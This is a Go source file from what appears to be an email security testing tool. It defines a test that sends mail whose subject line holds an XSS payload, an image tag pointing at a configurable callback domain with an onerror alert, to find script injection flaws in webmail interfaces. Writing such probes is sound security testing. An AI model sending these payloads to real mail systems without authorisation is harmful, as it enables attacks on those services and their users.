package testcases

import (
	"fmt"
	"iter"

	"github.com/shineum/mailprobe/internal/message"
	"github.com/shineum/mailprobe/internal/plugin"
)

func xssUnit() plugin.Unit {
	return unit("xss", plugin.Test{
		ID:          "xss-subject",
		Name:        "XSS in mail subjects",
		Description: "Attempting XSS in subjects for discovery of issues in web interfaces",
		Active:      true,
		Generate: func(env plugin.Env) iter.Seq[*message.Message] {
			subject := fmt.Sprintf(`Subject XSS Test: <img src="http://%s/xss.png" onerror="alert(1)">`, env.Options.BackconnectDomain)
			return yieldAll(text("This is a test mail with XSS payload in the subject.", "plain", "Subject", subject))
		},
	})
}
